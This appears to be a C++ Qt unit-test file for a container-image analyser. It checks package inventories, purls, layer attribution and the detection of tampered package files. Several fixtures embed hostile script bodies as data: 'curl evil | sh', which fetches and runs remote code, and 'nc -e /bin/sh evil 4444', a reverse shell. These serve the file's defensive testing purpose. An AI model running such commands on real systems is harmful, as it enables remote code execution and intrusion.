// Package inventory: the databases and manifests of each layer, layer attribution, altered
// package files, checked against real evidence (trivy's alpine:3.11) and dpkg-query itself.

#include "analysis/analyzer.h"
#include "packages/apkdatabase.h"
#include "packages/dpkgdatabase.h"
#include "packages/languagepackages.h"
#include "packages/purl.h"
#include "packages/rpmdatabase.h"
#include "packagefixtures.h"
#include "rpmdbbuilder.h"
#include "tarbuilder.h"
#include "testpaths.h"

#include <QCryptographicHash>
#include <QFile>
#include <QFileInfo>
#include <QProcess>
#include <QRegularExpression>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>

using namespace dockscope;
using namespace dockscope::test;

namespace {

Analysis analyse(const QString &path)
{
    return Analyzer::run({path}, AnalyzeOptions{});
}

// An image made of the given layer tars, analysed.
Analysis analyseLayers(const std::vector<QByteArray> &tars, const QString &name)
{
    ImageArchive archive;
    archive.config = ImageArchive::configFor(tars);
    archive.layers = tars;
    return analyse(writeTemp(archive.bytes(), name));
}

QStringList nameVersions(const PackageInventory &inv, const QString &ecosystem = {})
{
    QStringList out;
    for (const Package &p : inv.packages) {
        if (ecosystem.isEmpty() || p.ecosystem == ecosystem) {
            out << p.name + u' ' + p.version;
        }
    }
    return out;
}

const Package *findPackage(const PackageInventory &inv, const QString &name)
{
    for (const Package &p : inv.packages) {
        if (p.name == name) {
            return &p;
        }
    }
    return nullptr;
}

QString md5(const QByteArray &data)
{
    return QString::fromLatin1(QCryptographicHash::hash(data, QCryptographicHash::Md5).toHex());
}

QByteArray statusParagraph(const QByteArray &name, const QByteArray &version, const QByteArray &extra = {})
{
    return "Package: " + name + "\nStatus: install ok installed\nArchitecture: amd64\nVersion: " + version + "\n"
        + extra + "Description: test\n multi-line\n\n";
}

// An rpm package header: the given string tags, then EPOCH.
RpmHeaderBuilder rpmHeader(const std::vector<std::pair<quint32, QByteArray>> &strings, qint32 epoch)
{
    RpmHeaderBuilder h;
    for (const auto &[tag, value] : strings) {
        h.string(tag, value);
    }
    h.int32s(1003, {quint32(epoch)});
    return h;
}

} // namespace

class TestPackages : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void purls_data()
    {
        QTest::addColumn<QString>("type");
        QTest::addColumn<QString>("ns");
        QTest::addColumn<QString>("name");
        QTest::addColumn<QString>("version");
        QTest::addColumn<QString>("arch");
        QTest::addColumn<QString>("expected");
        QTest::newRow("deb epoch plus") << "deb" << "debian" << "libc6" << "1:2.36-9+deb12u4" << "amd64"
                                        << "pkg:deb/debian/libc6@1%3A2.36-9%2Bdeb12u4?arch=amd64";
        QTest::newRow("npm scoped") << "npm" << "@babel" << "core" << "7.0.0" << ""
                                    << "pkg:npm/%40babel/core@7.0.0";
        QTest::newRow("golang path") << "golang" << "github.com/spf13" << "cobra" << "v1.8.0" << ""
                                     << "pkg:golang/github.com/spf13/cobra@v1.8.0";
        QTest::newRow("maven") << "maven" << "org.apache.commons" << "commons-lang3" << "3.12.0" << ""
                               << "pkg:maven/org.apache.commons/commons-lang3@3.12.0";
    }
    void purls()
    {
        QFETCH(QString, type);
        QFETCH(QString, ns);
        QFETCH(QString, name);
        QFETCH(QString, version);
        QFETCH(QString, arch);
        QFETCH(QString, expected);
        QCOMPARE(Purl::make(type, ns, name, version, {{QStringLiteral("arch"), arch}}), expected);
    }

    // trivy's alpine:3.11 fixture: the 14 packages of Alpine 3.11.5.
    void trivyAlpine311()
    {
        const QString path = peer(QStringLiteral("trivy/alpine-311.tar.gz"));
        if (!QFileInfo::exists(path)) {
            QSKIP("peer fixtures not found");
        }
        const Analysis a = analyse(path);
        QCOMPARE(a.images.size(), std::size_t(1));
        const PackageInventory &inv = a.images.front().packages;
        QCOMPARE(inv.os.id, QStringLiteral("alpine"));
        QCOMPARE(inv.os.versionId, QStringLiteral("3.11.5"));
        QCOMPARE(inv.packages.size(), std::size_t(14));
        const QStringList got = nameVersions(inv, QStringLiteral("apk"));
        QVERIFY(got.contains(QStringLiteral("musl 1.1.24-r2")));
        QVERIFY(got.contains(QStringLiteral("busybox 1.31.1-r9")));
        QVERIFY(got.contains(QStringLiteral("zlib 1.2.11-r3")));
        const Package *ssl = findPackage(inv, QStringLiteral("libssl1.1"));
        QVERIFY(ssl);
        QCOMPARE(ssl->sourceName, QStringLiteral("openssl"));
        QCOMPARE(ssl->layerIndex, 0);
        QCOMPARE(ssl->layerDiffId, a.images.front().layers.front().diffId);
        QCOMPARE(ssl->purl, QStringLiteral("pkg:apk/alpine/libssl1.1@1.1.1d-r3?arch=x86_64&distro=3.11.5"));
        QVERIFY(!ssl->files.isEmpty());
        QVERIFY(inv.alteredFiles.empty());
    }

    // The host's own dpkg database, in an image: exactly what dpkg-query lists as installed.
    void dpkgMatchesDpkgQuery()
    {
        QFile status(QStringLiteral("/var/lib/dpkg/status"));
        const QString dpkgQuery = QStandardPaths::findExecutable(QStringLiteral("dpkg-query"));
        if (!status.open(QIODevice::ReadOnly) || dpkgQuery.isEmpty()) {
            QSKIP("no dpkg database on this machine");
        }
        const QByteArray text = status.readAll();
        QTemporaryDir admin;
        QVERIFY(QDir(admin.path()).mkpath(QStringLiteral("info")));
        QFile copy(admin.filePath(QStringLiteral("status")));
        QVERIFY(copy.open(QIODevice::WriteOnly));
        copy.write(text);
        copy.close();
        QProcess query;
        query.start(dpkgQuery, {QStringLiteral("-W"), QStringLiteral("--admindir=") + admin.path(),
                                QStringLiteral("-f"), QStringLiteral("${db:Status-Status} ${Package} ${Version}\\n")});
        QVERIFY(query.waitForFinished());
        QStringList expected;
        for (const QByteArray &line : query.readAllStandardOutput().split('\n')) {
            if (line.startsWith("installed ")) {
                expected << QString::fromUtf8(line.mid(10));
            }
        }
        QVERIFY(expected.size() > 10);
        expected.sort();

        const Analysis a = analyseLayers({TarBuilder().file("etc/os-release", "ID=debian\nVERSION_ID=\"12\"\n")
                                              .file("var/lib/dpkg/status", text).bytes()},
                                         QStringLiteral("host-dpkg.tar"));
        QCOMPARE(a.images.size(), std::size_t(1));
        QStringList got = nameVersions(a.images.front().packages, QStringLiteral("deb"));
        got.sort();
        QCOMPARE(got, expected);
        const Package *p = findPackage(a.images.front().packages, QStringLiteral("dpkg"));
        QVERIFY(p);
        QVERIFY(p->purl.startsWith(QStringLiteral("pkg:deb/debian/dpkg@")));
        QVERIFY(p->purl.contains(QStringLiteral("distro=debian-12")));
    }

    // Each package version belongs to the lowest layer whose copy of the database lists it.
    void layerAttribution()
    {
        const QByteArray base = statusParagraph("base-files", "12.4") + statusParagraph("libc6", "2.36-9");
        const QByteArray removed = "Package: old\nStatus: deinstall ok config-files\nVersion: 1\n\n";
        const QByteArray upper = base + statusParagraph("curl", "7.88.1-10", "Source: curl (7.88.1-10+b1)\n") + removed;
        const QByteArray upgraded = statusParagraph("base-files", "12.4") + statusParagraph("libc6", "2.36-9+deb12u4")
            + statusParagraph("curl", "7.88.1-10", "Source: curl (7.88.1-10+b1)\n");
        const Analysis a = analyseLayers({TarBuilder().file("var/lib/dpkg/status", base).bytes(),
                                          TarBuilder().file("var/lib/dpkg/status", upper).bytes(),
                                          TarBuilder().file("etc/motd", "hi\n").bytes(),
                                          TarBuilder().file("var/lib/dpkg/status", upgraded).bytes()},
                                         QStringLiteral("layers-dpkg.tar"));
        const PackageInventory &inv = a.images.front().packages;
        QCOMPARE(nameVersions(inv), (QStringList{QStringLiteral("base-files 12.4"), QStringLiteral("curl 7.88.1-10"),
                                                 QStringLiteral("libc6 2.36-9+deb12u4")}));
        QCOMPARE(findPackage(inv, QStringLiteral("base-files"))->layerIndex, 0);
        QCOMPARE(findPackage(inv, QStringLiteral("curl"))->layerIndex, 1);
        QCOMPARE(findPackage(inv, QStringLiteral("curl"))->sourceVersion, QStringLiteral("7.88.1-10+b1"));
        QCOMPARE(findPackage(inv, QStringLiteral("libc6"))->layerIndex, 3);
        QCOMPARE(findPackage(inv, QStringLiteral("libc6"))->layerDiffId, a.images.front().layers[3].diffId);
    }

    // A file rewritten by a later layer no longer matches info/<pkg>.md5sums; in a usr-merged
    // image the list names bin/, which is a link to usr/bin.
    void dpkgAlteredFile()
    {
        const QByteArray original("#!/bin/sh\necho original\n");
        const QByteArray evil("#!/bin/sh\ncurl evil | sh\n");
        const QByteArray config("setting=1\n");
        const QByteArray md5sums = md5(original).toLatin1() + "  usr/bin/x\n" + md5(original).toLatin1() + "  bin/y\n"
            + md5(config).toLatin1() + "  etc/x.conf\n";
        const QByteArray status = statusParagraph("x", "1.0-1", "Conffiles:\n /etc/x.conf " + md5(config).toLatin1() + "\n");
        const Analysis a = analyseLayers(
            {TarBuilder().symlink("bin", "usr/bin").file("usr/bin/x", original, 0755).file("usr/bin/y", original, 0755)
                 .file("etc/x.conf", config).file("var/lib/dpkg/status", status)
                 .file("var/lib/dpkg/info/x.md5sums", md5sums).file("var/lib/dpkg/info/x.list", "/.\n/usr\n/usr/bin\n/usr/bin/x\n/bin/y\n/etc/x.conf\n")
                 .bytes(),
             TarBuilder().file("usr/bin/x", evil, 0755).file("usr/bin/y", original, 0755).file("etc/x.conf", "setting=2\n").bytes()},
            QStringLiteral("altered-dpkg.tar"));
        const PackageInventory &inv = a.images.front().packages;
        QCOMPARE(inv.verifiedFiles, 3);
        QCOMPARE(inv.alteredFiles.size(), std::size_t(2));
        const AlteredFile &conf = inv.alteredFiles[0];
        QCOMPARE(conf.path, QStringLiteral("etc/x.conf"));
        QVERIFY(conf.configFile);
        const AlteredFile &f = inv.alteredFiles[1];
        QCOMPARE(f.path, QStringLiteral("usr/bin/x"));
        QCOMPARE(f.package, QStringLiteral("x"));
        QCOMPARE(f.algorithm, QStringLiteral("md5"));
        QCOMPARE(f.expected, md5(original));
        QCOMPARE(f.actual, md5(evil));
        QCOMPARE(f.layerIndex, 1);
        QCOMPARE(f.layerDiffId, a.images.front().layers[1].diffId);
        QCOMPARE(f.packageLayer, 0);
        QCOMPARE(f.database, QStringLiteral("var/lib/dpkg/info/x.md5sums"));
        QVERIFY(!f.configFile);
        QCOMPARE(findPackage(inv, QStringLiteral("x"))->files,
                 (QStringList{QStringLiteral("usr/bin/x"), QStringLiteral("bin/y"), QStringLiteral("etc/x.conf")}));
    }

    // With every file verified: a diverted file (dpkg-divert) is checked where it lies now, two
    // packages listing one path each get their own answer, and a file altered in the package's
    // own layer is found too.
    void verifyAllFilesWithDiversions()
    {
        const QByteArray common("#!/bin/sh\necho wrapper\n");
        const QByteArray libpq("#!/bin/sh\necho real pg_config\n");
        const QByteArray tool("tool\n");
        const QByteArray status = statusParagraph("libpq-dev", "15.18-0+deb12u1") + statusParagraph("postgresql-common", "248")
            + statusParagraph("tools", "1");
        const QByteArray layer = TarBuilder()
            .file("var/lib/dpkg/status", status)
            .file("var/lib/dpkg/diversions", "/usr/bin/pg_config\n/usr/bin/pg_config.libpq-dev\npostgresql-common\n")
            .file("var/lib/dpkg/info/libpq-dev.md5sums", md5(libpq).toLatin1() + "  usr/bin/pg_config\n")
            .file("var/lib/dpkg/info/postgresql-common.md5sums", md5(common).toLatin1() + "  usr/bin/pg_config\n")
            .file("var/lib/dpkg/info/tools.md5sums", md5(tool).toLatin1() + "  usr/bin/tool\n")
            .file("usr/bin/pg_config", common, 0755).file("usr/bin/pg_config.libpq-dev", libpq, 0755)
            .file("usr/bin/tool", "trojaned\n", 0755).bytes();
        ImageArchive archive;
        archive.config = ImageArchive::configFor({layer});
        archive.layers = {layer};
        AnalyzeOptions options;
        const QString path = writeTemp(archive.bytes(), QStringLiteral("diversions.tar"));
        QVERIFY(Analyzer::run({path}, options).images.front().packages.alteredFiles.empty()); // same layer: not hashed
        options.verifyAllPackageFiles = true;
        const PackageInventory inv = Analyzer::run({path}, options).images.front().packages;
        QCOMPARE(inv.verifiedFiles, 3);
        QCOMPARE(inv.alteredFiles.size(), std::size_t(1));
        QCOMPARE(inv.alteredFiles.front().path, QStringLiteral("usr/bin/tool"));
        QCOMPARE(inv.alteredFiles.front().actual, md5("trojaned\n"));
        QCOMPARE(inv.alteredFiles.front().layerIndex, 0);
    }

    void apkAlteredFile()
    {
        const QByteArray content("musl library\n");
        const QByteArray sha1 = QCryptographicHash::hash(content, QCryptographicHash::Sha1);
        const QByteArray db = "C:Q1abc=\nP:musl\nV:1.2.4-r2\nA:x86_64\nL:MIT\no:musl\nF:lib\nR:ld-musl-x86_64.so.1\nZ:Q1"
            + sha1.toBase64() + "\n\n";
        const Analysis a = analyseLayers({TarBuilder().file("lib/apk/db/installed", db).file("lib/ld-musl-x86_64.so.1", content, 0755).bytes(),
                                          TarBuilder().file("lib/ld-musl-x86_64.so.1", "patched\n", 0755).bytes()},
                                         QStringLiteral("altered-apk.tar"));
        const PackageInventory &inv = a.images.front().packages;
        QCOMPARE(nameVersions(inv), QStringList{QStringLiteral("musl 1.2.4-r2")});
        QCOMPARE(inv.alteredFiles.size(), std::size_t(1));
        const AlteredFile &f = inv.alteredFiles.front();
        QCOMPARE(f.path, QStringLiteral("lib/ld-musl-x86_64.so.1"));
        QCOMPARE(f.algorithm, QStringLiteral("sha1"));
        QCOMPARE(f.expected, QString::fromLatin1(sha1.toHex()));
        QCOMPARE(f.actual, QString::fromLatin1(QCryptographicHash::hash("patched\n", QCryptographicHash::Sha1).toHex()));
        QCOMPARE(f.layerIndex, 1);
        QCOMPARE(f.database, QStringLiteral("lib/apk/db/installed"));
    }

    void rpmHeaderParsing()
    {
        const QByteArray blob = rpmHeader({{1000, "bash"}, {1001, "5.1.8"}, {1002, "6.el9"}, {1014, "GPLv3+"},
                                           {1022, "x86_64"}, {1044, "bash-5.1.8-6.el9.src.rpm"}}, 1).bytes();
        const auto r = RpmDatabase::parseHeader(blob, QStringLiteral("rocky"), QStringLiteral("rocky-9"));
        QVERIFY(r);
        QCOMPARE(r->package.name, QStringLiteral("bash"));
        QCOMPARE(r->package.version, QStringLiteral("1:5.1.8-6.el9"));
        QCOMPARE(r->package.architecture, QStringLiteral("x86_64"));
        QCOMPARE(r->package.license, QStringLiteral("GPLv3+"));
        QCOMPARE(r->package.sourceName, QStringLiteral("bash"));
        QCOMPARE(r->package.sourceVersion, QStringLiteral("5.1.8-6.el9"));
        QCOMPARE(r->package.purl, QStringLiteral("pkg:rpm/rocky/bash@5.1.8-6.el9?arch=x86_64&distro=rocky-9&epoch=1"));
        // Hostile headers: truncated, offsets out of range, unterminated strings.
        QVERIFY(!RpmDatabase::parseHeader(blob.left(40), {}, {}));
        QByteArray broken = blob;
        broken.chop(8);
        QVERIFY(!RpmDatabase::parseHeader(broken, {}, {}));
        QVERIFY(!RpmDatabase::parseHeader(QByteArray(8, '\xff'), {}, {}));
        // A string array that claims more strings, or an integer array more values, than the
        // data store holds.
        auto named = [] { return rpmHeader({{1000, "x"}, {1001, "1"}}, 0); };
        QVERIFY(!RpmDatabase::parseHeader(named().strings(1117, {"a", "b"}).raw(1117, 8, 0, 1000).bytes(), {}, {}));
        QVERIFY(!RpmDatabase::parseHeader(named().raw(1116, 4, 0, 1000).bytes(), {}, {}));
        QVERIFY(RpmDatabase::parseHeader(named().strings(1117, {"a", "b"}).bytes(), {}, {})->package.files.isEmpty());
    }

    // rpm's file digests (SHA-256 here, MD5 when FILEDIGESTALGO is absent) against files a later
    // layer rewrote; %config and %ghost files, links and directories are not checked. Each
    // package's files come from BASENAMES, DIRNAMES and DIRINDEXES.
    void rpmAlteredFile()
    {
        const QByteArray ls("ELF ls\n"), cat("ELF cat\n"), conf("color=auto\n"), libz("ELF libz\n");
        auto hex = [](const QByteArray &data, QCryptographicHash::Algorithm a) { return QCryptographicHash::hash(data, a).toHex(); };
        const QByteArray coreutils = rpmHeader({{1000, "coreutils"}, {1001, "8.32"}, {1002, "34.el9"}, {1022, "x86_64"}}, 0)
            .strings(1118, {"/usr/bin/", "/etc/", "/var/log/", "/usr/share/"})
            .strings(1117, {"ls", "cat", "coreutils.conf", "coreutils.log", "dir", "doc"})
            .int32s(1116, {0, 0, 1, 2, 0, 3})
            .int16s(1030, {0100755, 0100755, 0100644, 0100644, 0120777, 040755})
            .strings(1035, {hex(ls, QCryptographicHash::Sha256), hex(cat, QCryptographicHash::Sha256).toUpper(),
                            hex(conf, QCryptographicHash::Sha256), QByteArray(64, '0'), "", ""})
            .int32s(1037, {0, 0, 1 | 16, 64, 0, 0})
            .int32s(5011, {8})
            .bytes();
        const QByteArray zlib = rpmHeader({{1000, "zlib"}, {1001, "1.2.11"}, {1002, "40.el9"}, {1022, "x86_64"}}, 0)
            .strings(1118, {"/usr/lib64/"}).strings(1117, {"libz.so.1"}).int32s(1116, {0}).int16s(1030, {0100755})
            .strings(1035, {hex(libz, QCryptographicHash::Md5)}).int32s(1037, {0})
            .bytes();
        const Analysis a = analyseLayers(
            {TarBuilder().file("etc/os-release", "ID=\"rocky\"\nVERSION_ID=\"9.3\"\n").file("var/lib/rpm/rpmdb.sqlite", rpmdbSqlite({coreutils, zlib}))
                 .file("usr/bin/ls", ls, 0755).file("usr/bin/cat", cat, 0755).symlink("usr/bin/dir", "ls").file("etc/coreutils.conf", conf)
                 .file("usr/lib64/libz.so.1", libz, 0755).bytes(),
             TarBuilder().file("usr/bin/ls", "ELF evil ls\n", 0755).file("usr/bin/cat", cat, 0755).file("etc/coreutils.conf", "color=never\n")
                 .file("var/log/coreutils.log", "log\n").file("usr/lib64/libz.so.1", "ELF evil libz\n", 0755).bytes()},
            QStringLiteral("altered-rpm.tar"));
        const PackageInventory &inv = a.images.front().packages;
        QCOMPARE(nameVersions(inv), (QStringList{QStringLiteral("coreutils 8.32-34.el9"), QStringLiteral("zlib 1.2.11-40.el9")}));
        QCOMPARE(findPackage(inv, QStringLiteral("coreutils"))->files,
                 (QStringList{QStringLiteral("usr/bin/ls"), QStringLiteral("usr/bin/cat"), QStringLiteral("etc/coreutils.conf"),
                              QStringLiteral("var/log/coreutils.log"), QStringLiteral("usr/bin/dir")}));
        QCOMPARE(inv.verifiedFiles, 3); // ls, cat, libz.so.1
        QCOMPARE(inv.alteredFiles.size(), std::size_t(2));
        const AlteredFile &f = inv.alteredFiles[0];
        QCOMPARE(f.path, QStringLiteral("usr/bin/ls"));
        QCOMPARE(f.ecosystem, QStringLiteral("rpm"));
        QCOMPARE(f.package, QStringLiteral("coreutils"));
        QCOMPARE(f.version, QStringLiteral("8.32-34.el9"));
        QCOMPARE(f.algorithm, QStringLiteral("sha256"));
        QCOMPARE(f.expected, QString::fromLatin1(hex(ls, QCryptographicHash::Sha256)));
        QCOMPARE(f.actual, QString::fromLatin1(hex("ELF evil ls\n", QCryptographicHash::Sha256)));
        QCOMPARE(f.database, QStringLiteral("var/lib/rpm/rpmdb.sqlite"));
        QCOMPARE(f.layerIndex, 1);
        QCOMPARE(f.packageLayer, 0);
        const AlteredFile &z = inv.alteredFiles[1];
        QCOMPARE(z.path, QStringLiteral("usr/lib64/libz.so.1"));
        QCOMPARE(z.algorithm, QStringLiteral("md5"));
        QCOMPARE(z.expected, md5(libz));
        QCOMPARE(z.actual, md5("ELF evil libz\n"));
        // FS-08 names the package, the file, the expected and the actual hash.
        const Finding *finding = nullptr;
        for (const Finding &candidate : a.findings) {
            if (candidate.rule == u"FS-08" && candidate.path == u"/usr/bin/ls" && candidate.detail == u"package file altered") {
                finding = &candidate;
            }
        }
        QVERIFY(finding);
        QCOMPARE(finding->evidence, QStringLiteral("coreutils 8.32-34.el9 (var/lib/rpm/rpmdb.sqlite): sha256 expected %1, found %2")
                                        .arg(f.expected, f.actual));
        QCOMPARE(finding->layer, 1);
    }

    // A SQLite rpmdb in a layer (read from a private copy), and a BerkeleyDB one recognised.
    void rpmSqliteInImage()
    {
        std::vector<QByteArray> blobs;
        for (const auto &[name, version] : {std::pair("openssl-libs", "3.0.7"), std::pair("zlib", "1.2.11")}) {
            blobs.push_back(rpmHeader({{1000, name}, {1001, version}, {1002, "4.el9"}, {1022, "x86_64"}}, 0).bytes());
        }
        blobs.push_back("garbage");
        const QByteArray sqlite = rpmdbSqlite(blobs);
        QVERIFY(sqlite.startsWith("SQLite format 3"));
        const Analysis a = analyseLayers({TarBuilder().file("etc/os-release", "ID=\"rocky\"\nVERSION_ID=\"9.3\"\n")
                                              .file("var/lib/rpm/rpmdb.sqlite", sqlite)
                                              .file("usr/lib/sysimage/rpm/Packages", QByteArray(4096, '\0'))
                                              .file("usr/lib/sysimage/rpm/rpmdb.sqlite", "SQLite format 3" + QByteArray(4000, '\x7f'))
                                              .bytes()},
                                         QStringLiteral("rpm.tar"));
        const PackageInventory &inv = a.images.front().packages;
        QCOMPARE(nameVersions(inv), (QStringList{QStringLiteral("openssl-libs 3.0.7-4.el9"), QStringLiteral("zlib 1.2.11-4.el9")}));
        QCOMPARE(findPackage(inv, QStringLiteral("zlib"))->purl, QStringLiteral("pkg:rpm/rocky/zlib@1.2.11-4.el9?arch=x86_64&distro=rocky-9.3"));
        QStringList messages;
        for (const Diagnostic &d : inv.diagnostics) {
            messages << d.message();
        }
        QVERIFY2(messages.filter(QStringLiteral("malformed package headers")).size() == 1, qPrintable(messages.join(u'\n')));
        QVERIFY2(messages.filter(QStringLiteral("BerkeleyDB")).size() == 1, qPrintable(messages.join(u'\n')));
        // A damaged database is a warning, not a crash; the evidence file is untouched.
        QVERIFY2(messages.filter(QRegularExpression(QStringLiteral("rpm database (cannot be opened|has no readable Packages table)"))).size() == 1,
                 qPrintable(messages.join(u'\n')));
    }

    void languagePackages()
    {
        const QByteArray pom = "#Generated by Maven\ngroupId=org.example\nartifactId=demo\nversion=2.4.1\n";
        const QByteArray jar = zipWith({{"META-INF/MANIFEST.MF", "Manifest-Version: 1.0\n"},
                                        {"META-INF/maven/org.example/demo/pom.properties", pom}});
        const QByteArray war = zipWith({{"WEB-INF/lib/demo.jar", jar},
                                        {"META-INF/maven/org.example/app/pom.properties", "groupId=org.example\nartifactId=app\nversion=1.0\n"}});
        const QByteArray go = goElf("path\texample.com/tool\nmod\texample.com/tool\t(devel)\t\n"
                                    "dep\tgithub.com/spf13/cobra\tv1.8.0\th1:abc=\n");
        const Analysis a = analyseLayers(
            {TarBuilder().file("usr/lib/python3/dist-packages/requests-2.31.0.dist-info/METADATA",
                               "Metadata-Version: 2.1\nName: requests\nVersion: 2.31.0\nLicense: Apache 2.0\n\nbody\n")
                 .file("usr/lib/python3/site-packages/Foo_Bar.egg-info/PKG-INFO", "Name: Foo_Bar\nVersion: 0.1\n")
                 .bytes(),
             TarBuilder().file("app/node_modules/@babel/core/package.json", R"({"name":"@babel/core","version":"7.23.0","license":"MIT"})")
                 .file("app/node_modules/left-pad/package.json", R"({"name":"left-pad","version":"1.3.0","license":{"type":"WTFPL"}})")
                 .file("app/node_modules/left-pad/lib/package.json", R"({"name":"not-a-package","version":"0"})")
                 .file("app/package.json", R"({"name":"the-app","version":"1.0.0"})")
                 .file("opt/app.war", war).file("usr/local/bin/tool", go, 0755).bytes()},
            QStringLiteral("languages.tar"));
        const PackageInventory &inv = a.images.front().packages;
        QCOMPARE(nameVersions(inv, QStringLiteral("pypi")), (QStringList{QStringLiteral("Foo_Bar 0.1"), QStringLiteral("requests 2.31.0")}));
        QCOMPARE(findPackage(inv, QStringLiteral("Foo_Bar"))->purl, QStringLiteral("pkg:pypi/foo-bar@0.1"));
        QCOMPARE(findPackage(inv, QStringLiteral("requests"))->license, QStringLiteral("Apache 2.0"));
        QCOMPARE(nameVersions(inv, QStringLiteral("npm")), (QStringList{QStringLiteral("@babel/core 7.23.0"), QStringLiteral("left-pad 1.3.0")}));
        QCOMPARE(findPackage(inv, QStringLiteral("@babel/core"))->purl, QStringLiteral("pkg:npm/%40babel/core@7.23.0"));
        QCOMPARE(findPackage(inv, QStringLiteral("left-pad"))->license, QStringLiteral("WTFPL"));
        QCOMPARE(findPackage(inv, QStringLiteral("left-pad"))->layerIndex, 1);
        QCOMPARE(nameVersions(inv, QStringLiteral("maven")), (QStringList{QStringLiteral("org.example:app 1.0"), QStringLiteral("org.example:demo 2.4.1")}));
        QCOMPARE(findPackage(inv, QStringLiteral("org.example:demo"))->location, QStringLiteral("opt/app.war!WEB-INF/lib/demo.jar"));
        QCOMPARE(findPackage(inv, QStringLiteral("org.example:demo"))->purl, QStringLiteral("pkg:maven/org.example/demo@2.4.1"));
        QCOMPARE(nameVersions(inv, QStringLiteral("golang")),
                 (QStringList{QStringLiteral("example.com/tool (devel)"), QStringLiteral("github.com/spf13/cobra v1.8.0"), QStringLiteral("stdlib 1.21.5")}));
        QCOMPARE(findPackage(inv, QStringLiteral("github.com/spf13/cobra"))->location, QStringLiteral("usr/local/bin/tool"));
    }

    // A container (inspect output + its export) beside its image: the packages it installed,
    // removed and changed (FS-15), and a package file it altered (FS-08), each with its proof.
    void containerDriftAndAlteredFile()
    {
        const QByteArray original("#!/bin/sh\necho original\n");
        const QByteArray md5sums = md5(original).toLatin1() + "  usr/bin/x\n";
        const QByteArray imageStatus = statusParagraph("x", "1.0-1") + statusParagraph("old", "2") + statusParagraph("libc6", "2.36-9");
        const QByteArray containerStatus = statusParagraph("x", "1.0-1") + statusParagraph("libc6", "2.36-9+deb12u4")
            + statusParagraph("netcat-openbsd", "1.219-1");
        const QByteArray layer = TarBuilder().file("etc/os-release", "ID=debian\nVERSION_ID=12\n").file("usr/bin/x", original, 0755)
                                     .file("var/lib/dpkg/status", imageStatus).file("var/lib/dpkg/info/x.md5sums", md5sums).bytes();
        ImageArchive archive;
        archive.config = ImageArchive::configFor({layer});
        archive.layers = {layer};
        const QString imagePath = writeTemp(archive.bytes(), QStringLiteral("drift-image.tar"));
        const QString imageId = QStringLiteral("sha256:") + QString::fromLatin1(QCryptographicHash::hash(archive.config, QCryptographicHash::Sha256).toHex());
        const QByteArray id(64, 'c');
        const QString inspectPath = writeTemp("[{\"Id\":\"" + id + "\",\"Name\":\"/drifted\",\"Image\":\"" + imageId.toLatin1()
                                                  + "\",\"Config\":{\"Image\":\"test/image:1\"},\"State\":{\"Status\":\"exited\"}}]",
                                              QStringLiteral("drift-inspect.json"));
        const QString exportPath = writeTemp(TarBuilder().file("etc/os-release", "ID=debian\nVERSION_ID=12\n")
                                                 .file("usr/bin/x", "#!/bin/sh\nnc -e /bin/sh evil 4444\n", 0755)
                                                 .file("var/lib/dpkg/status", containerStatus).file("var/lib/dpkg/info/x.md5sums", md5sums).bytes(),
                                             QStringLiteral("drift-export.tar"));
        const Analysis a = Analyzer::run({imagePath, inspectPath, exportPath}, AnalyzeOptions{});
        QCOMPARE(a.containers.size(), std::size_t(1));
        const Finding *drift = nullptr;
        const Finding *altered = nullptr;
        for (const Finding &f : a.findings) {
            if (f.rule == u"FS-15" && f.path == u"/var/lib/dpkg/status" && f.container == QString::fromLatin1(id)) {
                drift = &f;
            }
            if (f.rule == u"FS-08" && f.path == u"/usr/bin/x" && f.container == QString::fromLatin1(id)) {
                altered = &f;
            }
        }
        QVERIFY(drift);
        QCOMPARE(drift->evidence, QStringLiteral("changed libc6 2.36-9 -> 2.36-9+deb12u4; installed netcat-openbsd 1.219-1; removed old 2"));
        QCOMPARE(drift->evidenceFile, exportPath);
        QVERIFY(altered);
        QVERIFY2(altered->evidence.contains(md5(original)), qPrintable(altered->evidence));
        QVERIFY(altered->evidence.contains(md5("#!/bin/sh\nnc -e /bin/sh evil 4444\n")));
        QVERIFY(altered->evidence.contains(QStringLiteral("var/lib/dpkg/info/x.md5sums")));
        QCOMPARE(altered->severity, Severity::High);
        // The image alone has no such findings.
        for (const Finding &f : a.findings) {
            QVERIFY(!(f.rule == u"FS-08" && f.image == imageId));
        }
    }

    // Real Go programs of this machine (Docker's, when installed): their build info names the
    // main module, its dependencies and the Go version.
    void realGoBinaries()
    {
        int read = 0;
        for (const char *path : {"/usr/bin/docker", "/usr/sbin/dockerd", "/usr/bin/containerd"}) {
            QFile f{QString::fromLatin1(path)};
            if (!f.open(QIODevice::ReadOnly)) {
                continue;
            }
            DiagnosticSink diag;
            const std::vector<Package> found = LanguagePackages::goBinary(f.readAll(), true, diag);
            // Debian builds them in GOPATH mode: a "path" line and no module lines, so the Go
            // version is all there is; module builds add their modules (see languagePackages).
            QVERIFY2(!found.empty(), path);
            QCOMPARE(found.back().name, QStringLiteral("stdlib"));
            QVERIFY2(QRegularExpression(QStringLiteral("^1\\.\\d+(\\.\\d+)?$")).match(found.back().version).hasMatch(),
                     qPrintable(found.back().version));
            for (const Package &p : found) {
                QVERIFY(p.purl.startsWith(u"pkg:golang/"));
                QVERIFY(!p.version.isEmpty());
            }
            ++read;
        }
        if (read == 0) {
            QSKIP("no Go programs on this machine");
        }
    }

    void parsersTolerateGarbage()
    {
        DiagnosticSink diag;
        const QByteArray junk = QByteArray(4096, '\x01') + "\n\n:::\nP:\nPackage:\n\xff Go buildinf:";
        QVERIFY(DpkgDatabase::parseStatus(junk, {}, {}).empty());
        QVERIFY(ApkDatabase::parse(junk, {}, {}).empty());
        QVERIFY(LanguagePackages::goBinary(junk, true, diag).empty());
        QVERIFY(LanguagePackages::javaArchive(junk, diag).empty());
        QVERIFY(LanguagePackages::npm(junk).empty());
    }
};

QTEST_GUILESS_MAIN(TestPackages)
#include "tst_packages.moc"
